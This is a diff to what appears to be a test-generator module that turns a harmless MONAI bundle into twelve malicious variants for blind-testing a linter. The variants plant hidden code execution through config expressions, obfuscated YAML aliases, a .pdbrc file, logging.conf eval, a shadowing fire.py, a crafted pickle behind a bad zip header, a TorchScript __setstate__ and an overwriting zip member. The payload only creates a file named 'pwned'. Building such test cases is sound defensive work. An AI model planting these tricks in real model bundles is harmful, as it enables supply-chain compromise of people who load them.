@@ -1,6 +1,6 @@
-"""Twelve ways to turn a harmless MONAI bundle into one that runs an attacker's code, for a blind test of the linter.
+"""Twelve ways to make a harmless MONAI bundle run an attacker's code, for a blind test of the linter.
 
-Each takes the bundle's folder and changes it; the payload only ever makes a file named `pwned` in the current folder.
+Each takes the bundle's folder and changes it; the payload only ever makes a file `pwned` where it runs.
 """
 
 import io
@@ -21,61 +21,62 @@ def _edit(folder: Path, name: str, change: Callable[[dict[str, Any]], None]) -> 
 
 
 def _initialize(config: dict[str, Any], entry: object) -> None:
-    """Put entry first in what MONAI evaluates as soon as a workflow is made: by load, create_workflow and run."""
+    """Put entry first in what MONAI evaluates once a workflow is made: by load, create_workflow and run."""
     old = config.get("initialize", [])
     config["initialize"] = [entry, *(old if isinstance(old, list) else [old])]
 
 
 def comment_becomes_slice(folder: Path) -> None:
-    """Whoever makes the inference workflow evaluates a "comment": MONAI makes `::` of each `#` before its eval."""
-    expression = "$[96, 128][  # torch.os.system('touch pwned')\n    -1]"  # as it stands, a literal's last element
+    """Whoever makes the inference workflow evals a "comment": MONAI makes `::` of each `#` before that."""
+    expression = "$[96, 128][  # torch.os.system('touch pwned')\n    -1]"  # as it stands, 128
     _edit(folder, "inference.json", lambda config: _initialize(config, expression))
 
 
 def key_breaks_out_of_string(folder: Path) -> None:
-    """Whoever loads or trains evaluates a dict's KEY: the relative `%#` in a mere string literal is replaced by it."""
+    """Whoever loads or trains evals a dict's KEY: it replaces the relative `%#` in a mere string literal."""
 
     def change(config: dict[str, Any]) -> None:
         key = "fold 0' + str(torch.os.system('touch pwned')) + '"
-        config["notes"] = {key: {"split": "$'held out 5%#of the scans'"}}  # -> 'held out 5%notes::KEY::of the scans'
+        # the value turns into $'held out 5%notes::KEY::of the scans'
+        config["notes"] = {key: {"split": "$'held out 5%#of the scans'"}}
         _initialize(config, "@notes")
 
     _edit(folder, "train.json", change)
 
 
 def subscript_calls_system(folder: Path) -> None:
-    """Whoever loads or trains evaluates a disabled handler's description, which calls with no call in its syntax."""
+    """Whoever loads or trains evals a disabled handler's description, which calls without call syntax."""
     handler = {
         "_target_": "StatsHandler",
         "_disabled_": True,
-        "_desc_": "$[torch.nn.Module['touch pwned'] for torch.nn.Module.__class_getitem__ in [torch.os.system]]",
+        "_desc_": "$[torch.nn.Tanh['touch pwned'] for torch.nn.Tanh.__class_getitem__ in [torch.os.system]]",
     }
     _edit(folder, "train.json", lambda config: _initialize(config, handler))
 
 
 def import_hides_in_metadata(folder: Path) -> None:
-    """Whoever runs inference gets `os` under the name `np`: imports anywhere, even in the metadata, come first."""
+    """Whoever runs inference gets `os` for `np`: imports come first wherever they are, even in metadata."""
     _edit(folder, "metadata.json", lambda meta: meta.update(data_source="$from torch import os as np"))
     _edit(folder, "inference.json", lambda config: _initialize(config, "$np.system('touch pwned')"))
 
 
 def target_in_pieces(folder: Path) -> None:
-    """Whoever runs inference in the folder calls MONAI's own run_cmd: override keys, and macros into a YAML in docs."""
+    """Whoever runs inference in the folder calls MONAI's run_cmd, by override keys and macros into docs."""
     (folder / "docs" / "glossary.YmL").write_text(
-        'terms:\n  - &short "\\x72un\\u005fcmd"\n  - [touch, pwned]\naliases: {warm: *short}\n', encoding="utf-8"
+        'terms:\n  - &name "\\x72un\\u005fcmd"\n  - [touch, pwned]\nshort: {warm: *name}\n', encoding="utf-8"
     )
 
     def change(config: dict[str, Any]) -> None:
         _initialize(config, "@warm_up")
         config["warm_up"] = {"_desc_": "fills the caches"}
-        config["warm_up#_target_"] = "%docs/glossary.YmL#aliases#warm"
+        config["warm_up#_target_"] = "%docs/glossary.YmL#short#warm"
         config["+warm_up"] = {"cmd_list": "%docs/glossary.YmL#terms#1"}
 
     _edit(folder, "inference.json", change)
 
 
 def args_file_names_workflow(folder: Path) -> None:
-    """Whoever runs with the bundle's args file has the workflow class it names located and called with its args."""
+    """Whoever runs with the bundle's args file calls what it names as the workflow class, with its args."""
     args = {"workflow_name": "monai.bundle.scripts.os.system", "command": "touch pwned"}
     (folder / "configs" / "run_args.json").write_text(json.dumps(args, indent=4), encoding="utf-8")
     with (folder / "docs" / "README.md").open("a", encoding="utf-8") as readme:
@@ -83,14 +84,14 @@ def args_file_names_workflow(folder: Path) -> None:
 
 
 def debugger_reads_its_rc(folder: Path) -> None:
-    """Whoever loads or trains in the folder: the hidden `_debug_` argument starts pdb, and pdb executes `.pdbrc`."""
+    """Whoever loads or trains in the folder: the hidden `_debug_` starts pdb, and pdb executes `.pdbrc`."""
     (folder / ".pdbrc").write_text("import os; os.system('touch pwned')\ncontinue\n", encoding="utf-8")
     component = {"_target_": "torch.nn.Identity", "_debug_": "no"}  # any true value
     _edit(folder, "train.json", lambda config: _initialize(config, component))
 
 
 def logging_args_interpolate(folder: Path) -> None:
-    """Whoever makes any workflow: MONAI checks the raw args, a mere string; fileConfig interpolates, then evals."""
+    """Whoever makes a workflow: MONAI checks the raw args, a mere string; fileConfig fills it, then evals."""
     (folder / "configs" / "logging.conf").write_text(
         "[loggers]\nkeys=root\n\n[handlers]\nkeys=console\n\n[formatters]\nkeys=plain\n\n"
         "[logger_root]\nlevel=INFO\nhandlers=console\n\n"
@@ -102,7 +103,7 @@ def logging_args_interpolate(folder: Path) -> None:
 
 
 def large_file_shadows_fire(folder: Path) -> None:
-    """Whoever calls download_large_files in the folder gets a fire.py there, which the next `-m monai.bundle` runs."""
+    """Whoever gets the large files in the folder gets a fire.py, which the next `-m monai.bundle` imports."""
     code = '"""Appendix: the command line."""\n\nimport os\n\nos.system("touch pwned")\n'
     (folder / "docs" / "appendix.txt").write_text(code, encoding="utf-8")
     (folder / "large_files.yml").write_text(
@@ -111,12 +112,12 @@ def large_file_shadows_fire(folder: Path) -> None:
 
 
 def weights_behind_wrong_header(folder: Path) -> None:
-    """Whoever torch.loads the weights without weights_only: the pickle's local header is one that zipfile refuses."""
+    """Whoever torch.loads the weights without weights_only runs a pickle that zipfile refuses to open."""
 
     def text(value: str) -> bytes:
         return b"\x8c" + bytes([len(value)]) + value.encode()  # SHORT_BINUNICODE
 
-    # PROTO 4, MARK, STACK_GLOBAL of a dotted name within torch, OBJ (a call), POP; then the honest pickle goes on
+    # PROTO 4, MARK, STACK_GLOBAL of a dotted name within torch, OBJ (a call), POP; then the honest pickle
     attack = b"\x80\x04(" + text("torch") + text("os.system") + b"\x93" + text("touch pwned") + b"o0"
     honest, evil = io.BytesIO(), io.BytesIO()
     torch.save({"weight": torch.zeros(2)}, honest)
@@ -129,7 +130,7 @@ def weights_behind_wrong_header(folder: Path) -> None:
 
 
 def script_saves_on_load(folder: Path) -> None:
-    """Whoever loads the bundle with load_ts_module=True: TorchScript's __setstate__ writes files where it likes."""
+    """Whoever loads the bundle with load_ts_module=True: TorchScript's __setstate__ writes any file."""
 
     class Net(torch.nn.Module):
         def __init__(self) -> None:
@@ -140,20 +141,21 @@ def script_saves_on_load(folder: Path) -> None:
             return x
 
         @torch.jit.export
-        def __getstate__(self):  # noqa: ANN204
+        def __getstate__(self):
             return self.weight, self.training
 
         @torch.jit.export
-        def __setstate__(self, state: tuple[torch.Tensor, bool]):  # noqa: ANN204
+        def __setstate__(self, state: tuple[torch.Tensor, bool]):
             self.weight = state[0]
             self.training = state[1]
             torch.save(self.weight, "pwned")
 
-    torch.jit.script(Net()).save(str(folder / "models" / "model.ts"))
+    path = str(folder / "models" / "model.ts")
+    torch.jit.save(torch.jit.script(Net()), path, _extra_files={"metadata.json": "{}"})
 
 
 def member_written_twice(folder: Path) -> Path:
-    """Whoever unpacks the zip (monai.bundle.download, unzip) and runs: `//configs` is written over the honest config."""
+    """Whoever downloads or unzips it, then runs: `//configs` is written over the honest configs' file."""
     config = json.loads((folder / "configs" / "inference.json").read_text(encoding="utf-8"))
     _initialize(config, "$__import__('os').system('touch pwned')")
     path = folder.parent / f"{folder.name}.zip"
